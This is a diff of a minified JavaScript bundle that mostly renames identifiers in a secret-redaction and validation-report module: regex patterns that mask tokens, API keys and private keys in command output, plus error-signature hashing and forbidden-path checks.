 ["discord token",/\b[MNO][A-Za-z\d]{23,25}\.[\w-]{6}\.[\w-]{27,38}/dg],["webhook",/discord(?:app)?\.com\/api\/webhooks\/\d{1,20}\/([\w-]{20,})/dg],
-["webhook",/webhook\.office\.com\/webhookb2\/([\w@/-]{20,})/dg],["api key",UI],["api key",/\b[rs]k_(?:live|test|prod)_[A-Za-z0-9]{10,}|\bFLWSECK_TEST-[a-h0-9]{12}/dg],
+["webhook",/webhook\.office\.com\/webhookb2\/([\w@/-]{20,})/dg],["api key",KI],["api key",/\b[rs]k_(?:live|test|prod)_[A-Za-z0-9]{10,}|\bFLWSECK_TEST-[a-h0-9]{12}/dg],
 ["api key",/\bsk-[A-Za-z0-9]{20,}/dg],["api key",/AIza[\w-]{35}/dg],["api key",/\bhf_[A-Za-z]{34}\b|\bapi_org_[A-Za-z]{34}\b/dg],
 ["api key",/\b[A-Za-z0-9]{6}_[A-Za-z0-9]{29}_mmk\b/dg],["api key",/\b[0-9a-f]{32}-us\d{1,2}\b/dg],["api key",/\b\d{15,16}[|%][\w-]{27,40}/dg],
 ["jwt",/eyJ[\w-]{13,}(?:\.[\w-]*){0,4}/dg],["jwt",/\bZXlK[\w+/=-]{40,}/dg],["authorization header",/authorization["']?[ \t]{0,8}[:=][ \t]{0,8}["']?(?!\[redacted )((?:(?:basic|bearer|digest|token)[ \t]{1,8})?[^\s"']+)/dgi],
 ["bearer token",/bearer[ \t]{1,8}([\w.~+/=-]{16,})/dgi],["password",/\bcurl\b[^\n]{0,200}?[ \t](?:-u|--user)[ =]["']?([^\s"':]{1,64}:[^\s"']{3,})/dg],
 ["url user info",/:\/\/(?!\[redacted )([^\s/?#@]{1,512})@/dg],["private key",/-----BEGIN[ A-Z0-9_-]{0,100}PRIVATE KEY(?: BLOCK)?-----[\s\S]*?(?:-----END[ A-Z0-9_-]{0,100}PRIVATE KEY(?: BLOCK)?-----|$)/dg]];
-function JI(n){return TOKEN_SHAPES.flatMap(([e,t])=>Array.from(n.matchAll(t),({indices:s})=>{const[r,i]=s?.[1]??s?.[0]??
-[0,0];return{kind:e,start:r,end:i}}))}function DF(n,e=[]){return ZI(n,knownForms(e))}function ZI(n,e){const t=[...findKnown(
-n,e),...JI(n),...XI(n)].sort((o,c)=>o.start-c.start||c.end-o.end),s=[];for(const o of t){const c=s.at(-1);c===void 0||o.
+function qI(n){return TOKEN_SHAPES.flatMap(([e,t])=>Array.from(n.matchAll(t),({indices:s})=>{const[r,i]=s?.[1]??s?.[0]??
+[0,0];return{kind:e,start:r,end:i}}))}function SF(n,e=[]){return YI(n,knownForms(e))}function YI(n,e){const t=[...findKnown(
+n,e),...qI(n),...s1(n)].sort((o,c)=>o.start-c.start||c.end-o.end),s=[];for(const o of t){const c=s.at(-1);c===void 0||o.
 start>=c.end?s.push(o):o.end>c.end&&s.splice(-1,1,{...c,end:o.end})}let r="",i=0;for(const{kind:o,start:c,end:l}of s)r+=
-`${n.slice(i,c)}[redacted ${o}]`,i=l;return{text:r+n.slice(i),redactions:s}}const vo="(?<name>pass(?:word|wd|phrase)|pwd\
-|secret(?:[_-]?(?:access[_-]?)?key)?|token|(?:api|access|private|signing|encryption)[_-]?key)",WI="[ \\t]{0,8}(?::|=(?!=)\
-)[ \\t]{0,8}",KI="(?:[ \\t]{0,8}:[ \\t]{0,8}|[ \\t]{1,8}=(?!=)[ \\t]{0,8}|=[ \\t]{1,8})",sg=`\\\\{0,3}["']`,qI=new RegExp(
-`${vo}(?:${sg})?${WI}${sg}(?<value>[^\\s"'\\\\]{4,})`,"dgi"),YI=new RegExp(`${vo}=(?!=)(?<value>[^\\s"'&,;<>(){}[\\]\\\\]{6,\
-})`,"dgi"),VI=new RegExp(`${vo}${KI}(?<value>[^\\s"',;<>(){}[\\]\\\\]{7,})`,"dgi"),QI=new RegExp(`${vo}(?<=--[\\w-]{1,60}\
-)[ \\t]{1,8}(?<value>[^\\s"',;<>(){}[\\]\\\\]{7,})`,"dgi");function XI(n){return[...ko(n,qI,({name:e,value:t,next:s})=>/["'\\]/.
-test(s)&&!n1(e,t)),...ko(n,YI,({value:e,next:t})=>!du(e,t)),...ko(n,VI,({value:e,next:t})=>rg(e)&&!du(e,t)),...ko(n,QI,({
-value:e,next:t})=>rg(e)&&!du(e,t))]}function ko(n,e,t){return Array.from(n.matchAll(e)).flatMap(({groups:s={},indices:r})=>{
-const{name:i="",value:o=""}=s,[c,l]=r?.groups?.value??[0,0],B={name:i,value:o,next:n.charAt(l)};return t1(i,o)||!t(B)?[]:
-[{kind:"named secret",start:c,end:l}]})}const e1=/^(?:undefined|null|nil|none|true|false|string|number|boolean|function|object|unknown|any|never|required|missing|optional|expired|invalid|incorrect|expected|unexpected|empty|redacted|hidden|changeme|example|placeholder)[.!?]?$/i;
-function t1(n,e){return e1.test(e)||/^(?:[*x•.…_-]+|[<{$%].*|\[.*)$/i.test(e)?!0:/^[\d.:_-]+$/.test(e)&&!/^p/i.test(
-n)}function n1(n,e){return/token|key/i.test(n)&&/^[A-Za-z][a-z]{0,15}$/.test(e)}function du(n,e){return e!==""&&"([{".includes(
-e)?!0:/^(?:await|new|process|this|self|req|config|options|opts|args|env|params|ctx|parser)\b/.test(n)}function rg(n){return/:\/\/|^[.~]?\/|^[^/]*\/.*\.\w{1,5}$/.
+`${n.slice(i,c)}[redacted ${o}]`,i=l;return{text:r+n.slice(i),redactions:s}}const Do="(?<name>pass(?:word|wd|phrase)|pwd\
+|secret(?:[_-]?(?:access[_-]?)?key)?|token|(?:api|access|private|signing|encryption)[_-]?key)",VI="[ \\t]{0,8}(?::|=(?!=)\
+)[ \\t]{0,8}",QI="(?:[ \\t]{0,8}:[ \\t]{0,8}|[ \\t]{1,8}=(?!=)[ \\t]{0,8}|=[ \\t]{1,8})",rg=`\\\\{0,3}["']`,XI=new RegExp(
+`${Do}(?:${rg})?${VI}${rg}(?<value>[^\\s"'\\\\]{4,})`,"dgi"),e1=new RegExp(`${Do}=(?!=)(?<value>[^\\s"'&,;<>(){}[\\]\\\\]{6,\
+})`,"dgi"),t1=new RegExp(`${Do}${QI}(?<value>[^\\s"',;<>(){}[\\]\\\\]{7,})`,"dgi"),n1=new RegExp(`${Do}(?<=--[\\w-]{1,60}\
+)[ \\t]{1,8}(?<value>[^\\s"',;<>(){}[\\]\\\\]{7,})`,"dgi");function s1(n){return[...xo(n,XI,({name:e,value:t,next:s})=>/["'\\]/.
+test(s)&&!o1(e,t)),...xo(n,e1,({value:e,next:t})=>!Bu(e,t)),...xo(n,t1,({value:e,next:t})=>ig(e)&&!Bu(e,t)),...xo(n,n1,({
+value:e,next:t})=>ig(e)&&!Bu(e,t))]}function xo(n,e,t){return Array.from(n.matchAll(e)).flatMap(({groups:s={},indices:r})=>{
+const{name:i="",value:o=""}=s,[c,l]=r?.groups?.value??[0,0],B={name:i,value:o,next:n.charAt(l)};return i1(i,o)||!t(B)?[]:
+[{kind:"named secret",start:c,end:l}]})}const r1=/^(?:undefined|null|nil|none|true|false|string|number|boolean|function|object|unknown|any|never|required|missing|optional|expired|invalid|incorrect|expected|unexpected|empty|redacted|hidden|changeme|example|placeholder)[.!?]?$/i;
+function i1(n,e){return r1.test(e)||/^(?:[*x•.…_-]+|[<{$%].*|\[.*)$/i.test(e)?!0:/^[\d.:_-]+$/.test(e)&&!/^p/i.test(
+n)}function o1(n,e){return/token|key/i.test(n)&&/^[A-Za-z][a-z]{0,15}$/.test(e)}function Bu(n,e){return e!==""&&"([{".includes(
+e)?!0:/^(?:await|new|process|this|self|req|config|options|opts|args|env|params|ctx|parser)\b/.test(n)}function ig(n){return/:\/\/|^[.~]?\/|^[^/]*\/.*\.\w{1,5}$/.
 test(n)||/^(?:sha|md|base|utf|hs|rs|es|aes|oauth|v)-?\d+\w{0,4}$/i.test(n)?!1:/\d/.test(n)?/[a-z]/i.test(n):n.length>=20&&
-!/^[A-Za-z]?[a-z]+(?:[-_.A-Z][a-z]+)*$/.test(n)}function xF(n,e=[]){const t=knownForms(e);return{...n,stdout:ig(n.stdout,
-t),stderr:ig(n.stderr,t),...n.reason===void 0?{}:{reason:redactForms(n.reason,t).text}}}function ig(n,e){const{head:t,tail:s,
-truncated:r}=n;if(!r)return{...n,head:redactForms(t+s,e).text,tail:""};const i=reachOfKnown(e),o=s1(t.slice(0,Math.max(0,
-t.length-i))),c=i1(r1(s.slice(i)));return{...n,head:redactForms(o,e).text,tail:redactForms(c,e).text}}const og=4096;function s1(n){
-const e=/\S*$/.exec(n.slice(-og))?.[0]??"";return n.slice(0,n.length-e.length)}function r1(n){return n.slice(/^\S*/.exec(
-n.slice(0,og))?.[0].length??0)}function i1(n){const e=/^[\w+/=\s]*-----END [A-Z ]{0,40}PRIVATE KEY(?: BLOCK)?-----/.exec(
-n);return e===null?n:`[redacted private key]${n.slice(e[0].length)}`}function OF(n,e){const t=n.outcomes.map(s=>redactOutcome(
-s,e));return{...n,outcomes:t}}function AF(n,e){let t=e.startedAt.getTime();return n.map(s=>s.ran?o1(s,`vr_${t++}`,e):null)}
-function o1({gene:n,outcomes:e,proofs:t},s,{nodeOf:r,policyDigest:i,finishedAt:o}){const c=e.map((B,d)=>{const h=t?.[d];
-return{command:n.commands[d]?.command??"",ok:B.status==="passed",stdout:xo(B.stdout,Do),stderr:u1(B),status:B.status,exit_code:B.
-exit_code,signal:B.signal,duration_ms:B.duration_ms,...h&&{proof:c1(h)}}}),l=e[0]?.started_at??o.toISOString();return cg(
-{...ag({commands:c,startedAt:l,finishedAt:a1(e,o)}),id:s,gene_id:n.asset.id,gene_asset_id:contentHash(n.asset.value),policy_digest:i,
-...lg(r(n)),commands:c})}function a1(n,e){const t=n.map(({started_at:r,duration_ms:i})=>Date.parse(r)+i),s=t.length===0?
-Number.POSITIVE_INFINITY:Math.max(...t);return new Date(Math.min(s,e.getTime())).toISOString()}function c1({outcome:n,files:e}){
-return{outcome:n,files:e}}function u1({stderr:n,reason:e,status:t}){if(t==="passed"||e===void 0)return xo(n,Do);const s=e.
-slice(0,Bu),r=xo(n,Do-s.length-1);return r===""?s:`${r}
-${s}`}function ag({commands:n,startedAt:e,finishedAt:t}){return{type:"ValidationReport",schema_version:Ll,results:n.map(
+!/^[A-Za-z]?[a-z]+(?:[-_.A-Z][a-z]+)*$/.test(n)}function TF(n,e=[]){const t=knownForms(e);return{...n,stdout:og(n.stdout,
+t),stderr:og(n.stderr,t),...n.reason===void 0?{}:{reason:redactForms(n.reason,t).text}}}function og(n,e){const{head:t,tail:s,
+truncated:r}=n;if(!r)return{...n,head:redactForms(t+s,e).text,tail:""};const i=reachOfKnown(e),o=a1(t.slice(0,Math.max(0,
+t.length-i))),c=u1(c1(s.slice(i)));return{...n,head:redactForms(o,e).text,tail:redactForms(c,e).text}}const ag=4096;function a1(n){
+const e=/\S*$/.exec(n.slice(-ag))?.[0]??"";return n.slice(0,n.length-e.length)}function c1(n){return n.slice(/^\S*/.exec(
+n.slice(0,ag))?.[0].length??0)}function u1(n){const e=/^[\w+/=\s]*-----END [A-Z ]{0,40}PRIVATE KEY(?: BLOCK)?-----/.exec(
+n);return e===null?n:`[redacted private key]${n.slice(e[0].length)}`}function IF(n,e){const t=n.outcomes.map(s=>redactOutcome(
+s,e));return{...n,outcomes:t}}function $F(n,e){let t=e.startedAt.getTime();return n.map(s=>s.ran?l1(s,`vr_${t++}`,e):null)}
+function l1({gene:n,outcomes:e,proofs:t},s,{nodeOf:r,policyDigest:i,finishedAt:o}){const c=e.map((B,d)=>{const h=t?.[d];
+return{command:n.commands[d]?.command??"",ok:B.status==="passed",stdout:Ao(B.stdout,Oo),stderr:f1(B),status:B.status,exit_code:B.
+exit_code,signal:B.signal,duration_ms:B.duration_ms,...h&&{proof:B1(h)}}}),l=e[0]?.started_at??o.toISOString();return ug(
+{...cg({commands:c,startedAt:l,finishedAt:d1(e,o)}),id:s,gene_id:n.asset.id,gene_asset_id:contentHash(n.asset.value),policy_digest:i,
+...dg(r(n)),commands:c})}function d1(n,e){const t=n.map(({started_at:r,duration_ms:i})=>Date.parse(r)+i),s=t.length===0?
+Number.POSITIVE_INFINITY:Math.max(...t);return new Date(Math.min(s,e.getTime())).toISOString()}function B1({outcome:n,files:e}){
+return{outcome:n,files:e}}function f1({stderr:n,reason:e,status:t}){if(t==="passed"||e===void 0)return Ao(n,Oo);const s=e.
+slice(0,fu),r=Ao(n,Oo-s.length-1);return r===""?s:`${r}
+${s}`}function cg({commands:n,startedAt:e,finishedAt:t}){return{type:"ValidationReport",schema_version:jl,results:n.map(
 ({command:s,ok:r,duration_ms:i,stderr:o})=>({cmd:s,ok:r,duration_ms:i,...r?{}:{err:o}})),overall_ok:n.length>0&&n.every(
-({ok:s})=>s),duration_ms:Math.max(0,Date.parse(t)-Date.parse(e)),started_at:e,finished_at:t,created_at:t}}function cg(n){
-const e=vi(n);if(e===null)throw new TypeError("computeAssetId returns null only for a value that is not an object");return{
-...n,asset_id:e}}const Do=4e3,Bu=1e3;function xo({head:n,tail:e,bytes:t,truncated:s},r){const i=n+e;if(!s&&i.length<=r)return i;
+({ok:s})=>s),duration_ms:Math.max(0,Date.parse(t)-Date.parse(e)),started_at:e,finished_at:t,created_at:t}}function ug(n){
+const e=ki(n);if(e===null)throw new TypeError("computeAssetId returns null only for a value that is not an object");return{
+...n,asset_id:e}}const Oo=4e3,fu=1e3;function Ao({head:n,tail:e,bytes:t,truncated:s},r){const i=n+e;if(!s&&i.length<=r)return i;
 const o=`
 [cut: the beginning and the end of ${t} bytes]
-`,c=s?n:i,l=s?e:i;return c.slice(0,Bu).replace(/[\ud800-\udbff]$/,"")+o+l.slice(-(r-Bu-o.length)).replace(/^[\udc00-\udfff]/,
-"")}function ug(n){const e={head:n,tail:"",bytes:Buffer.byteLength(n),truncated:!1};return xo(e,Do)}function lg({version:n,
-platform:e,arch:t}){const s=["",n,e,t,"",Eo.name,Eo.version].join("|");return{env_fingerprint:{node_version:n,platform:e,
-arch:t,client:Eo.name,client_version:Eo.version},env_fingerprint_key:(0,ia.hash)("sha256",s).slice(0,16)}}const fu="errs\
-ig:",l1="errsig_norm:",d1=220;function B1(n){return n.trim().toLowerCase().replace(/[a-z]:\\[^ \n\r\t]+/g,"<path>").replace(
-/\/[^ \n\r\t]+/g,"<path>").replace(/\b0x[0-9a-f]+\b/g,"<hex>").replace(/\b\d+\b/g,"<n>").replace(/\s+/g," ").slice(0,d1)}
-function Oo(n){const e=n.trim();if(e.startsWith(fu)){const t=B1(e.slice(fu.length));return t===""?void 0:`${l1}${f1(t)}`}
-return/^errsig_norm:[0-9a-f]{8}$/i.test(e)?e.toLowerCase():void 0}function SF(n){return n.flatMap(e=>{const t=e.trim(),s=t.
-startsWith(fu)?Oo(t):t;return s?[s]:[]})}function f1(n){let e=2166136261;for(let t=0;t<n.length;t+=1)e=Math.imul(e^n.charCodeAt(
-t),16777619);return(e>>>0).toString(16).padStart(8,"0")}function h1(n){const e=m1(n),t=Oo(n);return t===void 0?e:{...e,matches:s=>Oo(
-s)===t||e.matches(s)}}function p1(n,e){return e.some(h1(n).matches)}function m1(n){const e=n.lastIndexOf("/");if(n.startsWith(
-"/")&&e>0){const t=n.slice(1,e),s=n.slice(e+1);return g1(t,s)?C1(t,s,n):Ao([n])}return!n.startsWith("/")&&n.includes("|")?
-Ao(n.split("|").map(t=>t.trim())):Ao([n])}function g1(n,e){try{return new RegExp(n,e),!0}catch{return!1}}function C1(n,e,t){
-const s=$s.translateRegExp(n),r=Am(e.includes("y")?`\\A(?:${s})`:s,{ignoreCase:e===""||e.includes("i"),multiline:e.includes(
-"m"),dotAll:e.includes("s")});return"error"in r?{...Ao([t]),unsupported:r.error}:{matches:i=>r.matches(i)}}function Ao(n){
-const e=n.filter(t=>t!=="").map(t=>t.toLowerCase());return{matches:t=>e.some(s=>t.toLowerCase().includes(s))}}function y1(n,e={
-files:_o.blast_radius.hard_cap_files,lines:_o.blast_radius.hard_cap_lines}){Xn({change:n,caps:e},{change:fg,caps:fg});const{
-files:t,maxFiles:s}=n,r=Oy(t,s,n,e);return{severity:r,message:Ay(r,n,s,e)}}function w1(n,e=[]){if(Xn({path:n,forbiddenPaths:e},
-{path:Xs,forbiddenPaths:H.YOg(Xs)}),Ba(n)!==void 0)return"always";if(_y(n))return"audit_log";const t=xr({forbidden_paths:[
-...e]}).constraints,s=ft(n)??n;return t.forbiddenPaths.some(r=>rn(s,r))?"declared":null}function b1(n){return Ks(n)}function _1(n){
-return Xn({asset:n},{asset:dg}),ws(n)}function E1(n){return ys(hu(n))??null}function v1(n){return n_(hu(n)).map(pu)}function k1(n,e,t={}){
-const s={capsule:R1,events:H.YOg(H.L5J()),thresholds:N1};Xn({capsule:n,events:e,thresholds:t},s);const r=hu({type:"Capsu\
-le",...n}),i=e.filter(h=>dg.safeParse(h).success),o=i.map(h=>({value:h,log:""})),c=e.length-i.length,l={..._o.a2a,...t},
-B=[...Ud(r,Fw(o,!1)(r),l),...c>0?[D1(r,c)]:[]],d=(0,ct.pn)(B);return{eligible:d==="eligible",eligibility:d,reasons:B.map(
-pu)}}function D1({id:n},e){const t=`the successes of the Capsule \`${n}\``,s=`a log in which ${e} ${e===1?"entry is":"en\
-tries are"} not an object`;return(0,ct.gk)("claim-not-checked",{claim:t,why:s},{severity:"error"})}function x1(n,e){return Xn(
-{pattern:n,signals:e},{pattern:Xs,signals:H.YOg(Xs)}),p1(n,e)}function O1(n){return Xn({signal:n},{signal:Xs}),Oo(n)??null}
-function A1(n){const e=GI(n);if(e===void 0)return null;const{differences:t,hash:s,...r}=e,i=r.commands.map(o=>({...o}));
-return{...r,commands:i,valid:t.length===0,hashMatches:s!==null}}const S1=H.Ikc({geneId:H.YjP(),commands:H.YOg(H.Ikc({command:H.
+`,c=s?n:i,l=s?e:i;return c.slice(0,fu).replace(/[\ud800-\udbff]$/,"")+o+l.slice(-(r-fu-o.length)).replace(/^[\udc00-\udfff]/,
+"")}function lg(n){const e={head:n,tail:"",bytes:Buffer.byteLength(n),truncated:!1};return Ao(e,Oo)}function dg({version:n,
+platform:e,arch:t}){const s=["",n,e,t,"",ko.name,ko.version].join("|");return{env_fingerprint:{node_version:n,platform:e,
+arch:t,client:ko.name,client_version:ko.version},env_fingerprint_key:(0,aa.hash)("sha256",s).slice(0,16)}}const hu="errs\
+ig:",h1="errsig_norm:",p1=220;function m1(n){return n.trim().toLowerCase().replace(/[a-z]:\\[^ \n\r\t]+/g,"<path>").replace(
+/\/[^ \n\r\t]+/g,"<path>").replace(/\b0x[0-9a-f]+\b/g,"<hex>").replace(/\b\d+\b/g,"<n>").replace(/\s+/g," ").slice(0,p1)}
+function So(n){const e=n.trim();if(e.startsWith(hu)){const t=m1(e.slice(hu.length));return t===""?void 0:`${h1}${g1(t)}`}
+return/^errsig_norm:[0-9a-f]{8}$/i.test(e)?e.toLowerCase():void 0}function RF(n){return n.flatMap(e=>{const t=e.trim(),s=t.
+startsWith(hu)?So(t):t;return s?[s]:[]})}function g1(n){let e=2166136261;for(let t=0;t<n.length;t+=1)e=Math.imul(e^n.charCodeAt(
+t),16777619);return(e>>>0).toString(16).padStart(8,"0")}function C1(n){const e=w1(n),t=So(n);return t===void 0?e:{...e,matches:s=>So(
+s)===t||e.matches(s)}}function y1(n,e){return e.some(C1(n).matches)}function w1(n){const e=n.lastIndexOf("/");if(n.startsWith(
+"/")&&e>0){const t=n.slice(1,e),s=n.slice(e+1);return b1(t,s)?_1(t,s,n):To([n])}return!n.startsWith("/")&&n.includes("|")?
+To(n.split("|").map(t=>t.trim())):To([n])}function b1(n,e){try{return new RegExp(n,e),!0}catch{return!1}}function _1(n,e,t){
+const s=$s.translateRegExp(n),r=Sm(e.includes("y")?`\\A(?:${s})`:s,{ignoreCase:e===""||e.includes("i"),multiline:e.includes(
+"m"),dotAll:e.includes("s")});return"error"in r?{...To([t]),unsupported:r.error}:{matches:i=>r.matches(i)}}function To(n){
+const e=n.filter(t=>t!=="").map(t=>t.toLowerCase());return{matches:t=>e.some(s=>t.toLowerCase().includes(s))}}function E1(n,e={
+files:vo.blast_radius.hard_cap_files,lines:vo.blast_radius.hard_cap_lines}){Xn({change:n,caps:e},{change:hg,caps:hg});const{
+files:t,maxFiles:s}=n,r=Ay(t,s,n,e);return{severity:r,message:Sy(r,n,s,e)}}function v1(n,e=[]){if(Xn({path:n,forbiddenPaths:e},
+{path:Xs,forbiddenPaths:H.YOg(Xs)}),ha(n)!==void 0)return"always";if(Ey(n))return"audit_log";const t=xr({forbidden_paths:[
+...e]}).constraints,s=ft(n)??n;return t.forbiddenPaths.some(r=>rn(s,r))?"declared":null}function k1(n){return Ks(n)}function D1(n){
+return Xn({asset:n},{asset:Bg}),ws(n)}function x1(n){return ys(pu(n))??null}function O1(n){return s_(pu(n)).map(mu)}function A1(n,e,t={}){
+const s={capsule:L1,events:H.YOg(H.L5J()),thresholds:j1};Xn({capsule:n,events:e,thresholds:t},s);const r=pu({type:"Capsu\
+le",...n}),i=e.filter(h=>Bg.safeParse(h).success),o=i.map(h=>({value:h,log:""})),c=e.length-i.length,l={...vo.a2a,...t},
+B=[...Jd(r,Pw(o,!1)(r),l),...c>0?[S1(r,c)]:[]],d=(0,ct.pn)(B);return{eligible:d==="eligible",eligibility:d,reasons:B.map(
+mu)}}function S1({id:n},e){const t=`the successes of the Capsule \`${n}\``,s=`a log in which ${e} ${e===1?"entry is":"en\
+tries are"} not an object`;return(0,ct.gk)("claim-not-checked",{claim:t,why:s},{severity:"error"})}function T1(n,e){return Xn(
+{pattern:n,signals:e},{pattern:Xs,signals:H.YOg(Xs)}),y1(n,e)}function I1(n){return Xn({signal:n},{signal:Xs}),So(n)??null}
+function $1(n){const e=JI(n);if(e===void 0)return null;const{differences:t,hash:s,...r}=e,i=r.commands.map(o=>({...o}));
+return{...r,commands:i,valid:t.length===0,hashMatches:s!==null}}const R1=H.Ikc({geneId:H.YjP(),commands:H.YOg(H.Ikc({command:H.
 YjP(),ok:H.zMY(),stdout:H.YjP().optional(),stderr:H.YjP().optional(),durationMs:H.aig().optional()})).readonly(),startedAt:H.
-aig(),finishedAt:H.aig()}),T1=F1(S1,n=>{const e=n.commands.map(({command:t,ok:s,stdout:r="",stderr:i="",durationMs:o=0})=>({
-result:{command:t,ok:s,stdout:ug(r),stderr:ug(i)},duration_ms:o}));return cg({...ag({commands:e.map(({result:t,duration_ms:s})=>({
+aig(),finishedAt:H.aig()}),N1=M1(R1,n=>{const e=n.commands.map(({command:t,ok:s,stdout:r="",stderr:i="",durationMs:o=0})=>({
+result:{command:t,ok:s,stdout:lg(r),stderr:lg(i)},duration_ms:o}));return ug({...cg({commands:e.map(({result:t,duration_ms:s})=>({
 ...t,duration_ms:s})),startedAt:new Date(n.startedAt).toISOString(),finishedAt:new Date(n.finishedAt).toISOString()}),id:`\
-vr_${n.finishedAt}`,gene_id:n.geneId,...lg(process),commands:e.map(({result:t})=>t)})});async function I1(n,e="evolver"){
-Xn({command:n,profile:e},{command:Xs,profile:H.k5n(Cs.J)});const t=Wr.by({policy:{..._o,profile:e},tree:void 0,changed:new Set,
-platform:IT(process.platform)}),{verdict:s,findings:r}=await PI(await t.command(n),t);return{verdict:s,findings:r.map(pu)}}
-const Xs=H.YjP(),dg=H.g1P(H.YjP(),H.L5J()),$1=H._H3({type:H.k5n(Cs.Dd)}),R1=H._H3({type:H.euz("Capsule").optional()}),Bg=H.
-Whr().nonnegative(),fg=H._H3({files:Bg,lines:Bg}),So=H.aig().optional(),N1=H._H3({min_score:So,max_files:So,max_lines:So,
-min_success_streak:So});function Xn(n,e){const[t]=H.Ikc(e).safeParse(n).error?.issues??[];if(t!==void 0)throw new TypeError(
-`${t.path.join(".")}: ${t.message}`)}function F1(n,e){return t=>(Xn({run:t},{run:n}),e(t))}function hu(n){Xn({asset:n},{
-asset:$1});const e=n;return{type:e.type,id:typeof e.id=="string"?e.id:"",path:"",value:e,pointer:[],locate:()=>({path:"",
-line:1,column:1})}}function pu(n){return{rule:n.rule,severity:n.severity,...(0,ct.q0)(n)}}var P1=ln.Ht,L1=ln.aB,j1=ln.x,
-M1=ln.dj,G1=ln._U,H1=ln.Ae,z1=ln.lq,U1=ln.hI,J1=ln.q,Z1=ln.Gj,W1=ln.qW,K1=ln.zD;export{P1 as auditCommand,L1 as blastSeverity,
-j1 as broadcastEligibility,M1 as canonicalJson,G1 as checkSchema,H1 as contentHash,z1 as errorSignature,U1 as forbiddenPath,
-J1 as readValidationReport,Z1 as signalMatches,W1 as validationReport,K1 as verifyContentHash};
+vr_${n.finishedAt}`,gene_id:n.geneId,...dg(process),commands:e.map(({result:t})=>t)})});async function F1(n,e="evolver"){
+Xn({command:n,profile:e},{command:Xs,profile:H.k5n(Cs.J)});const t=Kr.by({policy:{...vo,profile:e},tree:void 0,changed:new Set,
+platform:PT(process.platform)}),{verdict:s,findings:r}=await HI(await t.command(n),t);return{verdict:s,findings:r.map(mu)}}
+const Xs=H.YjP(),Bg=H.g1P(H.YjP(),H.L5J()),P1=H._H3({type:H.k5n(Cs.Dd)}),L1=H._H3({type:H.euz("Capsule").optional()}),fg=H.
+Whr().nonnegative(),hg=H._H3({files:fg,lines:fg}),Io=H.aig().optional(),j1=H._H3({min_score:Io,max_files:Io,max_lines:Io,
+min_success_streak:Io});function Xn(n,e){const[t]=H.Ikc(e).safeParse(n).error?.issues??[];if(t!==void 0)throw new TypeError(
+`${t.path.join(".")}: ${t.message}`)}function M1(n,e){return t=>(Xn({run:t},{run:n}),e(t))}function pu(n){Xn({asset:n},{
+asset:P1});const e=n;return{type:e.type,id:typeof e.id=="string"?e.id:"",path:"",value:e,pointer:[],locate:()=>({path:"",
+line:1,column:1})}}function mu(n){return{rule:n.rule,severity:n.severity,...(0,ct.q0)(n)}}var G1=ln.Ht,H1=ln.aB,z1=ln.x,
+U1=ln.dj,J1=ln._U,Z1=ln.Ae,W1=ln.lq,K1=ln.hI,q1=ln.q,Y1=ln.Gj,V1=ln.qW,Q1=ln.zD;export{G1 as auditCommand,H1 as blastSeverity,
+z1 as broadcastEligibility,U1 as canonicalJson,J1 as checkSchema,Z1 as contentHash,W1 as errorSignature,K1 as forbiddenPath,
+q1 as readValidationReport,Y1 as signalMatches,V1 as validationReport,Q1 as verifyContentHash};
